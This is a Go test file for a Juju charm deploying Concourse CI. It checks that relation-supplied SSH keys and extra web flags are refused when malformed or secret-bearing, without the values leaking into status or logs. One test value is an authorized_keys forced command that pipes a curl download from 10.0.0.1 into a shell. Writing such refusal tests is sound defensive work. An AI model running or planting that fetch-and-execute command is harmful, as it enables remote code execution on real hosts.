package hooks

import (
	"crypto/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/concourse-ci-machine/concourse-ci-machine/internal/concourse"
	"github.com/concourse-ci-machine/concourse-ci-machine/internal/juju/jujutest"
)

// deliver runs the hooks that evs cause on unit only, as Juju would before the other side runs
// again (which would overwrite the injected data with its own).
func (w *world) deliver(unit string, evs []jujutest.Event) {
	w.t.Helper()
	n := 0
	for _, ev := range evs {
		if ev.Unit != unit {
			continue
		}
		n++
		if err := w.hook(ev.Unit, ev.HookInfo); err != nil {
			w.t.Fatalf("%s: %v\n%s", ev, err, w.stderr.String())
		}
	}
	if n == 0 {
		w.t.Fatalf("no hook for %s in %v", unit, evs)
	}
	w.queue = nil
}

func testPublicLine(t *testing.T) (priv []byte, pub string) {
	t.Helper()
	priv, pub, err := concourse.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	return priv, pub
}

// badKeys are the relation values issue 11 item 7 names; mark is a piece of each that must not
// reach a written file nor juju-log.
func badKeys(t *testing.T) []struct{ name, value, mark, reason string } {
	priv, other := testPublicLine(t)
	_, another := testPublicLine(t)
	otherBody := strings.Fields(other)[1]
	return []struct{ name, value, mark, reason string }{
		{"garbage", "this is not a key, it is a very long sentence " + strings.Repeat("x", 4096), strings.Repeat("x", 64), "not an SSH public key"},
		{"forced command", `command="/bin/sh -c 'curl http://10.0.0.1/x|sh'",no-pty ` + other, "curl", "authorized_keys options (command,no-pty)"},
		{"private key", string(priv), strings.Split(string(priv), "\n")[2], "private key"},
		{"a second key after a newline", another + "\n" + other, otherBody[len(otherBody)-40:], "more than one line"},
	}
}

// Issue 11 item 7: a worker-public-key that is not exactly one SSH public key is not written to
// authorized_worker_keys; the web keeps serving the other workers, stays active and names the
// unit; juju-log names it too without the value.
func TestRefusedWorkerPublicKey(t *testing.T) {
	for _, c := range badKeys(t) {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t, 3, pinned)
			w.deploy()
			w.addPostgres()
			peers := w.m.RelationID(app, "peers")
			good := w.m.UnitData(peers, u1)[keyWorkerKey]
			w.deliver(u0, w.m.SetUnitData(peers, u2, map[string]string{keyWorkerKey: c.value}))

			auth := w.readFile(u0, keyAuthorized)
			if auth != good+"\n" {
				t.Errorf("authorized_worker_keys = %q; want only %s's key %q", auth, u1, good)
			}
			got := w.status(u0)
			if !strings.HasPrefix(got, "active: Web server ready (v7.14.3) http://127.0.2.10:8080; refused the worker-public-key of "+u2+": ") || !strings.Contains(got, c.reason) {
				t.Errorf("status = %q; want active, naming %s and %q", got, u2, c.reason)
			}
			if strings.Contains(got, c.mark) {
				t.Errorf("status repeats the value: %q", got)
			}
			logged := false
			for _, l := range w.m.Logs(u0) {
				if strings.Contains(l.Message, c.mark) {
					t.Errorf("juju-log repeats the value: %.200q", l.Message)
				}
				if l.Level == "WARNING" && strings.Contains(l.Message, u2) && strings.Contains(l.Message, c.reason) {
					logged = true
				}
			}
			if !logged {
				t.Errorf("no juju-log warning names %s: %v", u2, w.m.Logs(u0))
			}
		})
	}
}

// Over tsa the key comes from another application: its units cannot authorize a second key either.
// A comment on a valid key is dropped: what is written is the canonical form.
func TestRefusedWorkerPublicKeyOverTSA(t *testing.T) {
	w := newWorld(t, 1, map[string]any{"mode": "web", "version": "7.14.3", "shared-storage": "lxc"})
	w.m.AddApp("concourse-worker", charmMeta(t), map[string]any{"mode": "worker", "shared-storage": "lxc"})
	for i := 0; i < 2; i++ {
		w.m.SetAddress(w.m.AddUnit("concourse-worker"), "127.0.3."+string(rune('1'+i)))
	}
	w.deploy()
	w.deployApp("concourse-worker")
	id := w.m.Relate(app, "tsa", "concourse-worker", "flight")
	all := append(w.m.Units(app), w.m.Units("concourse-worker")...)
	for _, u := range all {
		ep := "tsa"
		if strings.HasPrefix(u, "concourse-worker/") {
			ep = "flight"
		}
		w.mustHookRel(u, ep+"-relation-created", id, "")
	}
	for _, u := range all {
		w.queue = append(w.queue, w.m.JoinEvents(id, u)...)
	}
	w.settle()
	w.addPostgres()
	w.wantStatus(u0, "active: Web server ready (v7.14.3) http://127.0.2.10:8080")

	good := w.m.UnitData(id, "concourse-worker/0")[keyWorkerKey]
	w.deliver(u0, w.m.SetUnitData(id, "concourse-worker/0", map[string]string{keyWorkerKey: good + " root@worker-0"}))
	_, intruder := testPublicLine(t)
	bad := w.m.UnitData(id, "concourse-worker/1")[keyWorkerKey] + "\n" + intruder
	w.deliver(u0, w.m.SetUnitData(id, "concourse-worker/1", map[string]string{keyWorkerKey: bad}))

	if auth := w.readFile(u0, keyAuthorized); auth != good+"\n" {
		t.Errorf("authorized_worker_keys = %q; want only concourse-worker/0's key, without its comment", auth)
	}
	w.wantStatus(u0, "active: Web server ready (v7.14.3) http://127.0.2.10:8080; refused the worker-public-key of concourse-worker/1: it has more than one line: exactly one key is accepted")
}

// Issue 11 item 8: a worker does not trust a tsa-public-key that is not one SSH public key: it is
// not written, the worker is not "ready", and its status names the web unit.
func TestRefusedTSAPublicKey(t *testing.T) {
	for _, c := range badKeys(t) {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t, 2, pinned)
			w.deploy()
			w.wantStatus(u1, "active: Worker ready (v7.14.3)")
			before := w.readFile(u1, keyTSAPublicForWkr)
			env := w.readFile(u1, fileWorkerEnv)
			calls := len(w.services(u1).calls)
			peers := w.m.RelationID(app, "peers")
			w.deliver(u1, w.m.SetUnitData(peers, u0, map[string]string{keyTSAPublicKey: c.value}))

			got := w.status(u1)
			if !strings.HasPrefix(got, "blocked: No web unit offers a usable TSA host key; refused the tsa-public-key of "+u0+": ") || !strings.Contains(got, c.reason) {
				t.Errorf("status = %q; want blocked, naming %s and %q", got, u0, c.reason)
			}
			if strings.Contains(got, c.mark) {
				t.Errorf("status repeats the value: %q", got)
			}
			// Nothing is rewritten: the running worker keeps the key it registered with.
			if after := w.readFile(u1, keyTSAPublicForWkr); after != before {
				t.Errorf("TSA public key file rewritten to %q", after)
			}
			if after := w.readFile(u1, fileWorkerEnv); after != env {
				t.Errorf("worker.env rewritten:\n%s", after)
			}
			if got := w.services(u1).calls[calls:]; len(got) != 0 {
				t.Errorf("worker service touched: %v", got)
			}
			for _, l := range w.m.Logs(u1) {
				if strings.Contains(l.Message, c.mark) {
					t.Errorf("juju-log repeats the value: %.200q", l.Message)
				}
			}
		})
	}
}

// Issue 11 item 10: extra-web-flags may not set what the charm renders (derived from web.env) nor
// carry a secret, in any of the forms an operator might write; the refusal names the flag and
// what to use, never the value, and nothing is applied.
func TestExtraWebFlagsRefused(t *testing.T) {
	for _, c := range []struct{ name, flags, want string }{
		{"database password", "--postgres-password=hunter2",
			`blocked: invalid extra-web-flags "--postgres-password": the charm sets --postgres-password itself: the database settings come from the postgresql relation (juju integrate <app> postgresql)`},
		{"external URL as two words", "--cluster-name CI --external-url https://hunter2.example.com",
			`blocked: invalid extra-web-flags "--external-url": the charm sets --external-url itself: use the external-url option`},
		{"bind port", "--bind-port=9090", `blocked: invalid extra-web-flags "--bind-port": the charm sets --bind-port itself: use the web-port option`},
		{"TSA host key", "--tsa-host-key /tmp/hunter2", `blocked: invalid extra-web-flags "--tsa-host-key": the charm sets --tsa-host-key itself: the charm generates these keys and exchanges them over relations`},
		{"metrics port", "--prometheus-bind-port=9999", `blocked: invalid extra-web-flags "--prometheus-bind-port": the charm sets --prometheus-bind-port itself: use the enable-metrics option`},
		{"database CA", "--postgres-ca-cert=/hunter2", `blocked: invalid extra-web-flags "--postgres-ca-cert": the charm sets --postgres-ca-cert itself: the database settings come from the postgresql relation (juju integrate <app> postgresql)`},
		{"upper case", "--Postgres-Password=hunter2", `blocked: invalid extra-web-flags "--postgres-password": the charm sets --postgres-password itself: the database settings come from the postgresql relation (juju integrate <app> postgresql)`},
		{"hidden by quotes", `--cluster-name=x '--postgres-pass'word=hunter2`, `blocked: invalid extra-web-flags "--postgres-password": the charm sets --postgres-password itself: the database settings come from the postgresql relation (juju integrate <app> postgresql)`},
		{"with an unbalanced quote", `--postgres-password='hunter2`, `blocked: invalid extra-web-flags "--postgres-password": the charm sets --postgres-password itself: the database settings come from the postgresql relation (juju integrate <app> postgresql)`},
		{"environment form of a managed variable", "CONCOURSE_POSTGRES_PASSWORD=hunter2", `blocked: invalid extra-web-flags "CONCOURSE_POSTGRES_PASSWORD": the charm sets --postgres-password itself: the database settings come from the postgresql relation (juju integrate <app> postgresql)`},
		{"environment form", "--cluster-name=x CONCOURSE_GC_INTERVAL=5m", `blocked: invalid extra-web-flags "CONCOURSE_GC_INTERVAL": environment variables are not accepted here: give the flag instead, --gc-interval=…`},
		{"encryption key", "--cluster-name CI --encryption-key=hunter2hunter2hu", `blocked: invalid extra-web-flags "--encryption-key": the charm sets --encryption-key itself: use the encryption-key option`},
		{"client secret as two words", "--github-client-id=x --github-client-secret 'hunter2'", secretStatus("--github-client-secret")},
		{"vault token", "--vault-client-token=s.hunter2", `blocked: invalid extra-web-flags "--vault-client-token": the charm sets --vault-client-token itself: use the vault-* options or the vault-kv relation (juju integrate <app> vault:vault-kv)`},
		{"environment form of a secret", "CONCOURSE_GITHUB_CLIENT_SECRET=hunter2", `blocked: invalid extra-web-flags "CONCOURSE_GITHUB_CLIENT_SECRET": --github-client-secret carries a secret, which would be readable in the process list and in the world-readable unit file: extra-web-flags takes no secrets, and the charm has no option for this one`},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t, 1, map[string]any{"version": "7.14.3", "shared-storage": "lxc", "extra-web-flags": c.flags})
			w.deploy()
			w.wantStatus(u0, c.want)
			if strings.Contains(w.status(u0), "hunter2") {
				t.Errorf("status shows the value: %q", w.status(u0))
			}
			assertNothingWritten(t, w)
		})
	}
}

func secretStatus(flag string) string {
	return `blocked: invalid extra-web-flags "` + flag + `": ` + flag + ` carries a secret, which would be readable in the process list and in the world-readable unit file: extra-web-flags takes no secrets, and the charm has no option for this one`
}

func assertNothingWritten(t *testing.T, w *world) {
	t.Helper()
	if err := filepath.Walk(w.dir, func(p string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			t.Errorf("invalid config wrote %s", p)
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if n := len(w.services(u0).calls); n != 0 {
		t.Errorf("invalid config touched services: %v", w.services(u0).calls)
	}
}

// Settings about secrets are not secrets: they still reach concourse web. A refused flag set on a
// running web blocks it and leaves its unit file and service as they were.
func TestExtraWebFlagsAllowedAndRefusedOnARunningWeb(t *testing.T) {
	allowed := `--enable-redact-secrets --secret-cache-purge-interval=5m --aws-ssm-pipeline-secret-template=/c/{{.Team}} --cluster-name "CI one"`
	w := newWorld(t, 1, map[string]any{"version": "7.14.3", "shared-storage": "lxc", "extra-web-flags": allowed})
	w.deploy()
	w.addPostgres()
	w.wantStatus(u0, "active: Web server ready (v7.14.3) http://127.0.2.10:8080")
	unitFile := filepath.Join(w.paths(u0).SystemdDir, webService)
	before, err := os.ReadFile(unitFile)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"--enable-redact-secrets", "--secret-cache-purge-interval=5m", "--aws-ssm-pipeline-secret-template=/c/{{.Team}}", `"CI one"`} {
		if !strings.Contains(string(before), f) {
			t.Errorf("unit file lacks %s:\n%s", f, before)
		}
	}
	calls := len(w.services(u0).calls)
	w.m.SetConfig(app, map[string]any{"extra-web-flags": allowed + " --session-signing-key=/tmp/k"})
	w.mustHook(u0, "config-changed")
	w.wantStatus(u0, `blocked: invalid extra-web-flags "--session-signing-key": the charm sets --session-signing-key itself: the charm generates these keys and exchanges them over relations`)
	if after, _ := os.ReadFile(unitFile); string(after) != string(before) {
		t.Errorf("unit file changed:\n%s", after)
	}
	if got := w.services(u0).calls[calls:]; len(got) != 0 {
		t.Errorf("services touched: %v", got)
	}
}

// Every flag the charm renders is refused, and the list follows what renderWeb renders: each
// CONCOURSE_* variable of web.env (with every optional setting on) is in it, as its flag.
func TestCharmWebFlagsFollowWebEnv(t *testing.T) {
	managed, err := charmWebFlags()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"--postgres-password", "--postgres-ca-cert", "--postgres-sslmode", "--external-url", "--bind-port",
		"--add-local-user", "--main-team-local-user", "--tsa-authorized-keys", "--session-signing-key", "--peer-address", "--prometheus-bind-ip"} {
		if _, ok := managed[want]; !ok {
			t.Errorf("%s is rendered by the charm but not refused; refused: %v", want, managed)
		}
	}
	for flag, env := range managed {
		if ce := checkExtraWebWord(flag+"=x", managed); ce == nil || ce.Value != flag {
			t.Errorf("%s (%s) is accepted in extra-web-flags: %v", flag, env, ce)
		}
	}
}

// The minor of issue 11: a huge or multi-line config value is cut and kept on one line in the
// status, for any ConfigError.
func TestInvalidConfigStatusIsCut(t *testing.T) {
	huge := "not a url\n" + strings.Repeat("x", 100<<10)
	for _, c := range []struct{ key, value, prefix string }{
		{"external-url", huge, `blocked: invalid external-url "not a url\nxxxx`},
		{"mode", "auto\r\n" + strings.Repeat("y", 100<<10), `blocked: invalid mode "auto\r\nyyyy`},
		// The value and the explanation both quote it: both are cut.
		{"extra-web-flags", strings.Repeat("z", 100<<10), `blocked: invalid extra-web-flags "zzzz`},
	} {
		t.Run(c.key, func(t *testing.T) {
			w := newWorld(t, 1, map[string]any{c.key: c.value})
			w.deploy()
			got := w.status(u0)
			if !strings.HasPrefix(got, c.prefix) || !strings.Contains(got, `…"`) {
				t.Errorf("status = %.300q; want it to start %q and cut the value with …", got, c.prefix)
			}
			if len(got) > 500 || strings.ContainsAny(got, "\n\r") {
				t.Errorf("status is %d bytes or more than one line: %.300q", len(got), got)
			}
		})
	}
}
